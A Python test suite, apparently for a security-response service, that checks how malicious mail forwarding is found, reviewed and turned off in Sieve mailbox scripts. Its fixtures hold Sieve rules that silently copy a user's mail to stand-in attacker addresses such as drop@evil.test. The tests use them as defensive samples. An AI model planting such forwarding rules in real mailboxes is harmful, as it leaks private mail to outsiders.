# SPDX-License-Identifier: GPL-3.0-or-later
"""Forwarding is turned off for the addresses that the analyst saw, and for no others."""
import itertools
import pathlib
import sys
import tempfile
import unittest

from service import Service, wait_until

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lab"))
import lab as mail  # noqa: E402

SCRIPT = b'require "copy";\nredirect :copy "drop@evil.test";\n'
MORE = SCRIPT + b'redirect :copy "second@evil.test";\n'


class Targets(unittest.TestCase):
    tap_class = "forwarding"
    numbers = itertools.count(1)

    @classmethod
    def setUpClass(cls):
        folder = pathlib.Path(cls.enterClassContext(tempfile.TemporaryDirectory(prefix="ac-forwarding-")))
        names = [f"user{number}@example.test" for number in range(9)]
        cls.free = iter(names)
        cls.lab = mail.Lab(folder / "lab", users=names, messages=0)
        cls.addClassCleanup(cls.lab.discard)
        cls.lab.start()
        cls.service = Service(folder / "service", groups={
            "mail": cls.lab.mail_config(look_seconds=0), "forwarding": cls.lab.forwarding_config()})
        cls.addClassCleanup(cls.service.stop)
        cls.service.start()

    def setUp(self):
        self.mailbox = next(self.free)

    def put(self, script):
        with self.lab.sieve(self.mailbox) as client:
            client.put("main", script, active=True)

    def scripts(self):
        with self.lab.sieve(self.mailbox) as client:
            return client.snapshot()

    def propose(self):
        made = self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "malicious", "assets": [self.mailbox],
            "entity": {"type": "mailbox", "address": self.mailbox}}])
        return made["actions"][0]["id"]

    def seen(self, action):
        return wait_until(lambda: self.service.action(action)["targets"].get("digest"), "the look")

    def addresses(self, action):
        page = self.service.request("GET", f"/actions/{action}/targets", role="reader").json
        return [(one["mailbox"], one["subject"]) for one in page["items"]]

    def approve(self, action, digest):
        return self.service.decide("approve", [action],
                                   targets=[{"actionId": action, "digest": digest}])

    def test_what_was_seen_is_turned_off(self):
        self.put(MORE)
        action = self.propose()
        digest = self.seen(action)
        self.assertEqual([(self.mailbox, "drop@evil.test"), (self.mailbox, "second@evil.test")],
                         self.addresses(action))
        answer = self.approve(action, digest)
        self.assertEqual(202, answer.status, answer)
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])
        self.assertEqual("action-center", self.scripts()[0])

    def test_forwarding_that_has_changed_comes_back_with_the_difference(self):
        self.put(SCRIPT)
        action = self.propose()
        digest = self.seen(action)
        self.put(MORE)
        before = self.scripts()
        answer = self.approve(action, digest)
        self.assertEqual(202, answer.status, answer)
        operation = self.service.wait_operation(answer.json["id"])
        self.assertEqual({"total": 1, "waiting": 0, "done": 0, "failed": 0, "skipped": 1},
                         operation["counts"])
        after = self.service.action(action)
        self.assertEqual("pending", after["status"])
        self.assertEqual((1, 0), (after["targets"]["difference"]["added"],
                                  after["targets"]["difference"]["removed"]))
        [example] = after["targets"]["difference"]["examples"]
        self.assertEqual(("added", self.mailbox, "second@evil.test"),
                         (example["change"], example["mailbox"], example["subject"]))
        self.assertIn(f"“second@evil.test” of {self.mailbox} is new", operation["items"][0]["detail"])
        self.assertEqual(before, self.scripts())
        # What was seen before is not what would be done now; what is seen now is.
        answer = self.approve(action, digest)
        self.assertEqual((409, "targets-changed"), (answer.status, answer.problem))
        answer = self.approve(action, after["targets"]["digest"])
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])
        self.assertEqual("action-center", self.scripts()[0])

    def test_a_script_without_forwarding_leaves_nothing_to_decide(self):
        self.put(b"keep;")
        action = self.propose()
        wait_until(lambda: self.service.action(action)["status"] == "cancelled", "its end")
        self.assertIn("no active script forwards", str(self.service.action(action)["timeline"]))

    def test_a_script_that_cannot_be_read_is_named_and_cannot_be_approved(self):
        with self.lab.sieve(self.mailbox) as client:
            client.put("inner", b'redirect "drop@evil.test";')
        self.put(b'require "include";\ninclude :personal "inner";\n')
        action = self.propose()
        digest = self.seen(action)
        page = self.service.request("GET", f"/actions/{action}/targets", role="reader").json
        [unreadable] = page["unreadable"]
        self.assertIn("“inner”", unreadable["problem"])
        answer = self.approve(action, digest)
        self.assertEqual((409, "conflict"), (answer.status, answer.problem))
        self.assertIn("could not be looked at", answer.json["detail"])

    def test_an_approval_is_taken_back_before_it_is_looked_at(self):
        self.put(SCRIPT)
        action = self.propose()
        digest = self.seen(action)
        with self.lab.paused():
            answer = self.approve(action, digest)
            back = self.service.request("DELETE", f"/operations/{answer.json['id']}", role="responder")
            self.assertEqual(200, back.status, back)
        self.assertEqual("pending", self.service.action(action)["status"])
        answer = self.approve(action, digest)
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])


class Impatience(unittest.TestCase):
    tap_class = "forwarding"

    def test_forwarding_is_tried_again_for_a_time_of_its_own(self):
        """One second here, where that of mail is ten minutes."""
        folder = pathlib.Path(self.enterContext(tempfile.TemporaryDirectory(prefix="ac-forwarding-")))
        lab = mail.Lab(folder / "lab", users=["user@example.test"], messages=0)
        lab.start()
        self.addCleanup(lab.stop)
        with lab.sieve("user@example.test") as client:
            client.put("main", SCRIPT, active=True)
        service = Service(folder / "service", groups={
            "mail": lab.mail_config(), "forwarding": lab.forwarding_config(retry_seconds=1)})
        service.start()
        self.addCleanup(service.stop)
        action = service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "malicious",
            "assets": ["user@example.test"],
            "entity": {"type": "mailbox", "address": "user@example.test"}}])["actions"][0]["id"]
        wait_until(lambda: service.action(action)["targets"].get("digest"), "the look")
        lab.kill9()
        answer = service.decide("approve", [action])
        operation = service.wait_operation(answer.json["id"])
        self.assertEqual(("failed", "failed"), (operation["items"][0]["status"],
                                                operation["items"][0]["state"]))
        self.assertIn("cannot be reached", operation["items"][0]["detail"])


if __name__ == "__main__":
    unittest.main()
